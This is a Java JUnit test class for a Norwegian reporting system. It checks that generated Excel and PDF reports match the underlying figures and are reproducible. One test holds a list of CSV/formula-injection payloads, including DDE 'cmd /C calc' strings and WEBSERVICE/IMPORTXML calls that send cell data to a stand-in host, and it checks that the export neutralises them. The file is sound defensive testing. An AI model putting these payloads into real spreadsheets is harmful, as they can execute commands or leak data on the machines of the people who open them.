package no.stegvis.reporting;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Set;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import no.stegvis.TestDatabase;
import no.stegvis.funding.Awards;
import no.stegvis.reporting.batch.ReportRunner;
import no.stegvis.reporting.pdf.FunderPdf;
import no.stegvis.reporting.sheet.FunderWorkbook;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Name;
import org.apache.poi.ss.util.CellReference;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.ContextConfiguration;

import static org.assertj.core.api.Assertions.assertThat;

/** The workbook and the PDF say what {@code figures.json} says, and nothing more. */
@SpringBootTest(classes = ReportingTestApplication.class, webEnvironment = SpringBootTest.WebEnvironment.NONE,
        properties = "camunda.bpm.enabled=false")
@ContextConfiguration(initializers = TestDatabase.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ReportFilesTests {

    /** What somebody writes: in a scheme, an award, the names of units. */
    private static final Set<String> TEXTS = Set.of("title", "subtitle", "funder", "post", "awardName", "letterReference", "recipient", "text",
            "rowHeading", "label", "note");

    @Autowired
    JdbcClient jdbc;
    @Autowired
    Awards awards;
    @Autowired
    Reports reports;
    @Autowired
    ReportRuns runs;
    @Autowired
    Schemes schemes;
    @Autowired
    ReportRunner runner;
    @Autowired
    FunderWorkbook workbooks;
    @Autowired
    FunderPdf pdfs;

    ReportDocument report;
    byte[] workbook;
    byte[] pdf;

    @BeforeAll
    void aReport() throws Exception {
        SmallOrganisation.in(jdbc, awards);
        ReportRun run = runner.run(reports.order(SmallOrganisation.AWARD, "2025", Instant.parse("2026-01-31T12:00:00Z"), "test").id());
        report = runs.document(run.id()).orElseThrow();
        workbook = runs.file(run.id(), ReportFile.Kind.WORKBOOK).orElseThrow().content();
        pdf = runs.file(run.id(), ReportFile.Kind.PDF).orElseThrow().content();
        Path seen = Files.createDirectories(Path.of("target", "report-files"));
        Files.write(seen.resolve("report.xlsx"), workbook);
        Files.write(seen.resolve("report.pdf"), pdf);
    }

    @Test
    void everyFigureStandsInTheWorkbookAsANumberOrIsHidden() throws Exception {
        try (XSSFWorkbook opened = new XSSFWorkbook(new ByteArrayInputStream(workbook))) {
            int figures = 0;
            for (ReportDocument.Table table : report.tables().toList()) {
                for (ReportDocument.Row row : table.rows()) {
                    for (int i = 0; i < row.cells().size(); i++) {
                        ReportDocument.Column column = table.columns().get(i);
                        ReportDocument.Cell figure = row.cells().get(i);
                        String name = "fig_" + column.indicator() + "_"
                                + row.key().replace("+", "plus").replace("-", "minus") + "_" + column.key();
                        XSSFCell cell = named(opened, name);
                        if (figure.value() == null) {
                            assertThat(cell.getStringCellValue()).as(name).isEqualTo(figure.isHidden() ? ":" : "–");
                        } else {
                            assertThat(cell.getCellType()).as(name).isEqualTo(CellType.NUMERIC);
                            assertThat(cell.getNumericCellValue()).as(name).isEqualTo(figure.value().doubleValue());
                        }
                        figures++;
                    }
                }
            }
            assertThat(figures).isGreaterThan(100);
        }
    }

    @Test
    void thePdfSaysTheSameRowByRow() throws Exception {
        List<String> lines;
        try (PDDocument opened = Loader.loadPDF(pdf)) {
            PDFTextStripper stripper = new PDFTextStripper();
            stripper.setSortByPosition(true);
            lines = stripper.getText(opened).lines().map(line -> line.replace('\u00a0', ' ').strip()).toList();
            assertThat(opened.getDocumentCatalog().getLanguage()).isEqualTo("nb-NO");
            assertThat(opened.getDocumentInformation().getTitle()).isEqualTo("Rapport om aktivitetstilbud 2025");
            assertThat(opened.getDocumentCatalog().getDocumentOutline().children()).isNotEmpty();
            for (var page : opened.getPages()) {
                for (var font : page.getResources().getFontNames()) {
                    assertThat(page.getResources().getFont(font).isEmbedded()).isTrue();
                }
            }
        }
        int from = 0;
        for (ReportDocument.Table table : report.tables().toList()) {
            for (ReportDocument.Row row : table.rows()) {
                StringBuilder expected = new StringBuilder(row.label());
                for (int i = 0; i < row.cells().size(); i++) {
                    expected.append(' ').append(table.columns().get(i).write(row.cells().get(i), report.header().locale()).replace('\u00a0', ' '));
                }
                int at = lines.subList(from, lines.size()).indexOf(expected.toString());
                assertThat(at).as("«%s» of %s", expected, table.id()).isNotNegative();
                from += at + 1;
            }
        }
        assertThat(lines).contains("Registrert per 31.1.2026 kl. 13.00.00 Side 2 av " + pages());
    }

    private int pages() throws Exception {
        try (PDDocument opened = Loader.loadPDF(pdf)) {
            return opened.getNumberOfPages();
        }
    }

    @Test
    void namesThatLookLikeFormulasStayText() throws Exception {
        try (XSSFWorkbook opened = new XSSFWorkbook(new ByteArrayInputStream(workbook))) {
            boolean seen = false;
            for (var sheet : opened) {
                for (var row : sheet) {
                    for (var cell : row) {
                        assertThat(cell.getCellType()).as(cell.getAddress().toString()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().equals("@Vest")) {
                            seen = true;
                            assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
                        }
                    }
                }
            }
            assertThat(seen).isTrue();
        }
    }

    /** S8: each of two hundred, in every text that comes from data. */
    @Test
    void nothingThatSomebodyMayWriteBecomesAFormula() throws Exception {
        int payloads = 0;
        for (String lead : List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝")) {
            for (String rest : List.of("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://ond.example\";\"her\")", "WEBSERVICE(\"http://ond.example/\"&A1)",
                    "IMPORTXML(\"http://ond.example\";\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "MSEXCEL|'\\..\\cmd.exe'!''", "rundll32|'x'!A1", "SUM(A1:A9)",
                    "INDIRECT(\"A1\")", "A1&B1", "2+5+cmd|' /C calc'!A0", "@SUM(1+1)", "EXEC(\"calc\")", "CALL(\"a\")", "FILTERXML(A1;\"//b\")", "{=1}",
                    "IMAGE(\"http://ond.example\")", "LET(x;1;x)", "Vest")) {
                payloads++;
                holdsNoFormula(workbooks.write(ReportDocument.fromJson(written(lead + rest))), lead);
            }
        }
        assertThat(payloads).isEqualTo(200);
    }

    /** The report with the payload as each of its texts; what names a thing or is one of a few words stays. */
    private byte[] written(String payload) throws IOException {
        ObjectMapper json = new ObjectMapper();
        JsonNode tree = json.readTree(report.toJson());
        fill(tree, payload);
        return json.writeValueAsBytes(tree);
    }

    private static void fill(JsonNode node, String payload) {
        if (node instanceof ObjectNode object) {
            object.fieldNames().forEachRemaining(name -> {
                if (object.get(name).isTextual() && TEXTS.contains(name)) {
                    object.put(name, payload);
                }
            });
        }
        node.forEach(part -> fill(part, payload));
    }

    private static void holdsNoFormula(byte[] content, String lead) throws IOException {
        int begin = 0;
        try (XSSFWorkbook opened = new XSSFWorkbook(new ByteArrayInputStream(content))) {
            for (var sheet : opened) {
                for (var row : sheet) {
                    for (var cell : row) {
                        assertThat(cell.getCellType()).as(cell.getAddress().toString()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().replace('\r', '\n').startsWith(lead.replace('\r', '\n'))) {
                            begin++;
                            assertThat(cell.getCellStyle().getQuotePrefixed()).as(cell.getStringCellValue()).isTrue();
                        }
                    }
                }
            }
        }
        assertThat(begin).isGreaterThan(20);
    }

    @Test
    void theWorkbookHidesNothingBehindTheFigures() throws Exception {
        try (XSSFWorkbook opened = new XSSFWorkbook(new ByteArrayInputStream(workbook))) {
            for (int i = 0; i < opened.getNumberOfSheets(); i++) {
                assertThat(opened.isSheetHidden(i) || opened.isSheetVeryHidden(i)).isFalse();
                assertThat(opened.getSheetAt(i).getCellComments()).isEmpty();
            }
        }
    }

    @Test
    void theSameReportGivesTheSameBytes() {
        assertThat(workbooks.write(report)).isEqualTo(workbook);
        assertThat(pdfs.write(report, schemes.find(report.header().schemeId()).orElseThrow())).isEqualTo(pdf);
    }

    /** Java makes objects in another way from the sixteenth time on. */
    @Test
    void theTwentiethReportIsMadeAsTheFirst() {
        var scheme = schemes.find(report.header().schemeId()).orElseThrow();
        for (int i = 0; i < 20; i++) {
            assertThat(pdfs.write(report, scheme)).isEqualTo(pdf);
        }
    }

    private static XSSFCell named(XSSFWorkbook workbook, String name) {
        Name found = workbook.getName(name);
        assertThat(found).as(name).isNotNull();
        CellReference at = new CellReference(found.getRefersToFormula());
        return workbook.getSheet(at.getSheetName()).getRow(at.getRow()).getCell(at.getCol());
    }
}
